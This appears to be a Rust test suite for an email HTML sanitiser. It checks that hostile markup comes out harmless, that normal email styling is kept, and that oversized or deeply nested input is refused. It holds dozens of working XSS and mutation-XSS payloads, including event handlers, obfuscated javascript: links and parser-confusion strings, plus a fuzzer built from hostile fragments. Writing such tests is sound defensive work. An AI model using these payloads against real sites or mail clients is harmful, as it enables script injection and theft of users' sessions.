//! Hostile HTML: what comes out is parsed by a browser's parser, and must hold nothing that runs or loads.

use super::*;
use proptest::prelude::*;
use scraper::Html;

fn safe(html: &str) -> Safe {
    make_safe(html, &Limits::default()).unwrap_or_else(|error| panic!("{error}: {html}"))
}

/// Everything that a browser would see in it, judged without any of this crate's code.
fn assert_harmless(html: &str, given: &str) {
    for node in Html::parse_document(html).tree.nodes() {
        let Some(element) = node.value().as_element() else { continue };
        let name = element.name();
        let forbidden = [
            "script", "iframe", "object", "embed", "form", "base", "link", "svg", "math", "template", "noscript",
            "input", "textarea", "select", "button", "frame", "frameset", "applet", "audio", "video", "xmp",
        ];
        assert!(!forbidden.contains(&name), "<{name}> in {html}\nfrom {given}");
        for (attribute, value) in element.attrs() {
            let squeezed: String =
                value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect::<String>().to_lowercase();
            assert!(!attribute.to_lowercase().starts_with("on"), "{attribute} in {html}\nfrom {given}");
            assert!(
                !["srcdoc", "action", "formaction", "srcset", "ping"].contains(&attribute),
                "{attribute} in {html}"
            );
            if ["href", "src", "background"].contains(&attribute) {
                let colon = squeezed.find(':').filter(|at| !squeezed[..*at].contains(['/', '?', '#', '\\']));
                if let Some(colon) = colon {
                    let scheme = &squeezed[..colon];
                    let image = scheme == "data" && squeezed.starts_with("data:image/") && attribute != "href";
                    assert!(
                        image || ["http", "https", "mailto", "tel", "cid"].contains(&scheme),
                        "{attribute}={value} in {html}\nfrom {given}"
                    );
                }
            }
            if attribute == "style" {
                for word in ["expression(", "javascript:", "-moz-binding", "url(data:text"] {
                    assert!(!squeezed.contains(word), "{value} in {html}");
                }
            }
            if attribute == "http-equiv" {
                assert!(!squeezed.contains("refresh"), "{html}");
            }
        }
    }
}

#[test]
fn hostile_html_comes_out_harmless() {
    for given in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=\"x\"onerror=alert(1)>",
        "<img src='x' ONERROR='a()' oNlOaD=b>",
        "<body onload=alert(1)>hi",
        "<p onclick=\"x\">a</p>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=' java&#115;cript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt:alert(1)'>x</a>",
        "<a href='java\tscr\nipt:alert(1)'>x</a>",
        "<a href='javascript&colon;alert(1)'>x</a>",
        "<a href='&#1;javascript:alert(1)'>x</a>",
        "<a href='https://ok.test' href='javascript:x'>x</a>",
        "<a href='javascript:x' href='https://ok.test'>x</a>",
        "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<iframe src=//evil.test></iframe>a",
        "<iframe srcdoc='<script>x</script>'>",
        "<object data=x><embed src=x></object>",
        "<form action=//evil.test><input name=p><button formaction=javascript:x>go</button></form>",
        "<meta http-equiv=refresh content='0;url=//evil.test'>",
        "<meta http-equiv=' ReFresh ' content='0'>",
        "<base href=//evil.test>",
        "<link rel=stylesheet href=//evil.test/x.css>",
        "<svg onload=alert(1)><script>x</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mi xlink:href=javascript:x>a</mi></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<template><script>x</script></template>",
        "<textarea><script>x</script></textarea>",
        "<title><img src=x onerror=x></title></title><img src=x onerror=x>",
        "<plaintext><script>x</script>",
        "<!--<img src='--><img src=x onerror=alert(1)//'>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<?xml version='1'?><?php <script>x</script> ?>",
        "<!--[if mso]><script>x</script><![endif]-->",
        "<!--[if gte mso 9]><a href=javascript:x onclick=y>x</a><![endif]-->",
        "<!--[if mso]><a title='-->' ><![endif]--><img src=x onerror=alert(1)>",
        "<!--[if mso]>--<script></script>><img src=x onerror=alert(1)><![endif]-->",
        "<!--[if !mso]><!--><img src=x onerror=alert(1)><!--<![endif]-->",
        "<div style='width:expression(alert(1))'>a</div>",
        "<div style='background:url(javascript:x)'>a</div>",
        "<div style='width:e\\78 pression(x)'>a</div>",
        "<style>@import '//evil.test/x.css'; p{color:red}</style><p>a</p>",
        "<style>p{behavior:url(x)}</style><p>a</p>",
        "<style></style/><img src=x onerror=x></style>",
        "<style><!--</style><img src=x onerror=alert(1)>--></style>",
        "<style>@media x{a{content:'</style><img src=x onerror=alert(1)>'}}</style>",
        "<table background=javascript:x><tr><td background='vbscript:x'>a</table>",
        "<img srcset='javascript:x 1x' src=https://ok.test/x.png>",
        "<video poster=javascript:x><source onerror=x></video>",
        "<details ontoggle=x open>a</details>",
        "<marquee onstart=x>a</marquee>",
        "<x onclick=y is=z>a</x>",
        "<p title='&quot; onmouseover=x'>a</p>",
        "<p title=`a` onclick=x>a</p>",
        "<a href=\"https://x.test/?q=<script>\">a</a>",
        "<image src=x onerror=x>",
        "<isindex action=javascript:x>",
        "<frameset onload=x><frame src=javascript:x></frameset>",
        "\u{feff}<script>x</script>",
        "<p/onclick=x/>",
        "<<script>x</script>",
        "<p\u{c}onclick=x>a",
        "<a\u{b}href=javascript:x>a",
        "<area href='feed:javascript:x'>",
        "<dialog open onclose=x>a</dialog>",
    ] {
        match make_safe(given, &Limits::default()) {
            Ok(result) => assert_harmless(&result.html, given),
            // Refusing is safe too, but must say why.
            Err(ComposeError::Html { reason }) => assert!(!reason.is_empty(), "{given}"),
            Err(other) => panic!("{other}: {given}"),
        }
    }
}

#[test]
fn what_mails_are_made_of_stays() {
    let given = "<!doctype html><html lang=\"pt\" xmlns:v=\"urn:schemas-microsoft-com:vml\"><head><meta charset=\"utf-8\">\
        <meta name=\"color-scheme\" content=\"light dark\"><title>Olá</title><style>p { color: red } \
        .big { font-size: 20px } @media (prefers-color-scheme: dark) { p { color: white !important } }</style></head>\
        <body bgcolor=\"#fff\"><!-- secret --><!--[if mso]><table width=\"600\"><tr><td><v:rect \
        fillcolor=\"red\" href=\"https://x.test\"><![endif]--><p class=\"big\" style=\"margin:0\">Hi \
        <a href=\"https://x.test/?a=1&amp;b=2\" target=\"_blank\">there</a> <img src=\"cid:logo\" alt=\"\" width=\"10\">\
        <img src=\"data:image/png;base64,AA==\"></p><!--[if !mso]><!--><p>web</p><!--<![endif]--></body></html>";
    let Safe { html, warnings } = safe(given);
    assert!(warnings.is_empty(), "{warnings:?}");
    for part in [
        "lang=\"pt\"",
        "charset=\"utf-8\"",
        "name=\"color-scheme\"",
        "<title>Olá</title>",
        "prefers-color-scheme: dark",
        "color: red",
        "font-size: 20px",
        "margin: 0",
        "href=\"https://x.test/?a=1&amp;b=2\"",
        "src=\"cid:logo\"",
        "src=\"data:image/png;base64,AA==\"",
        "<!--[if mso]><table width=\"600\"><tr><td><v:rect",
        "fillcolor=\"red\"",
        "<![endif]-->",
        "<!--[if !mso]><!--><p",
        "<!--<![endif]-->",
        "xmlns:v",
        "bgcolor=\"#fff\"",
    ] {
        assert!(html.contains(part), "{part} not in {html}");
    }
    assert!(!html.contains("secret"), "{html}");
    let paragraph = &html[html.find("<p").unwrap()..];
    assert!(paragraph[..paragraph.find('>').unwrap()].contains("color: red"), "not inlined: {paragraph}");
}

#[test]
fn a_fragment_becomes_a_document_and_the_author_hears_what_went() {
    let Safe { html, warnings } =
        safe("<p>a</p><script>x</script><form><p onclick=x>b</p></form><a href=javascript:x>c</a>");
    assert!(html.starts_with("<!DOCTYPE html><html>"), "{html}");
    assert!(html.contains("<p>b</p>") && html.contains("<a>c</a>"), "{html}");
    let all = warnings.into_iter().collect::<Vec<_>>().join("\n");
    for word in ["`<script>`", "`<form>`", "event handler", "a link was removed"] {
        assert!(all.contains(word), "{word}: {all}");
    }
}

#[test]
fn styles_that_load_go_and_others_stay() {
    let Safe { html, .. } =
        safe("<style>@import url(https://f.test/css2?a=b:c;d);p{color:red}@media print{p{color:blue}}</style><p>a</p>");
    assert!(!html.contains("@import") && !html.contains("f.test"), "{html}");
    assert!(html.contains("color: red") && html.contains("@media print"), "{html}");
}

#[test]
fn what_would_multiply_is_refused_before_a_parser_builds_it() {
    let limits = Limits::default();
    for (name, html) in [
        ("deep", "<div>".repeat(50_000)),
        ("deep, closed wrongly", "<div><table></div>".repeat(5_000)),
        ("many", "<br>".repeat(20_000)),
        ("formatting left open", repeat(500, |i| format!("<p><font size={i}>"))),
        ("formatting closed by others", repeat(500, |i| format!("<p><b id={i}></p>"))),
        ("css times elements", format!("<style>{}</style>{}", "*{a:b}".repeat(20_000), "<p>".repeat(9_000))),
        ("large", "a".repeat(limits.html_max_bytes + 1)),
    ] {
        let started = std::time::Instant::now();
        let result = make_safe(&html, &limits);
        assert!(matches!(result, Err(ComposeError::Html { .. } | ComposeError::TooLarge { .. })), "{name}: {result:?}");
        assert!(started.elapsed().as_secs() < 10, "{name}: {:?}", started.elapsed());
    }
}

#[test]
fn the_worst_that_is_allowed_ends() {
    let deep = format!("{}x", "<div>".repeat(95));
    let tables = format!("{}x", "<table><tr><td>".repeat(95));
    let lists = format!("{}x", "<ul><li>".repeat(95));
    let formatting = repeat(16, |i| format!("<font size={i}>")) + &"<p>x</p>".repeat(2_000);
    for html in [deep, tables, lists, formatting] {
        let started = std::time::Instant::now();
        safe(&html);
        assert!(started.elapsed().as_secs() < 10, "{:?}", started.elapsed());
    }
}

fn repeat(count: usize, piece: impl Fn(usize) -> String) -> String {
    (0..count).map(piece).collect::<Vec<_>>().concat()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]

    #[test]
    fn soup_of_hostile_pieces_comes_out_harmless(pieces in prop::collection::vec(piece(), 0..24)) {
        let given = pieces.concat();
        if let Ok(result) = make_safe(&given, &Limits::default()) {
            assert_harmless(&result.html, &given);
            // Cleaning what is clean changes nothing that matters: it stays harmless and is still accepted.
            let again = make_safe(&result.html, &Limits::default());
            prop_assert!(again.is_ok(), "{:?} from {}", again, result.html);
        }
    }

    #[test]
    fn any_text_is_safe_or_refused(given in "\\PC{0,200}") {
        if let Ok(result) = make_safe(&given, &Limits::default()) {
            assert_harmless(&result.html, &given);
        }
    }
}

fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        prop::sample::select(vec![
            "<p>",
            "</p>",
            "<b>",
            "</b>",
            "<a href='",
            "'>",
            "\">",
            "javascript:",
            "java&#115;cript:",
            "<script>",
            "</script>",
            "<style>",
            "</style>",
            "<svg>",
            "</svg>",
            "<math>",
            "</math>",
            "<mtext>",
            "<mglyph>",
            "<noscript>",
            "</noscript>",
            "<title>",
            "</title>",
            "<textarea>",
            "</textarea>",
            "<!--",
            "-->",
            "--!>",
            "<!--[if mso]>",
            "<![endif]-->",
            "<![CDATA[",
            "]]>",
            "<img src=x onerror=x>",
            " onclick=x ",
            "<table>",
            "<tr>",
            "<td>",
            "</table>",
            "<select>",
            "</select>",
            "<template>",
            "</template>",
            "<form>",
            "</form>",
            "<xmp>",
            "</xmp>",
            "<iframe>",
            "</iframe>",
            "<plaintext>",
            "<body onload=x>",
            "<html>",
            "</body>",
            "<head>",
            "<base href=x>",
            "<foreignObject>",
            "<desc>",
            "<annotation-xml encoding='text/html'>",
            "style='width:expression(x)'",
            "&lt;",
            "&#60;script&#62;",
            "\"",
            "'",
            ">",
            "<",
            "/",
            "=",
            " ",
            "\u{0c}",
            "<frameset>",
            "<noembed>",
            "</noembed>",
            "<listing>",
            "<colgroup>",
            "<caption>",
        ])
        .prop_map(str::to_owned),
        "[a-z<>/='\" ]{0,6}",
    ]
}
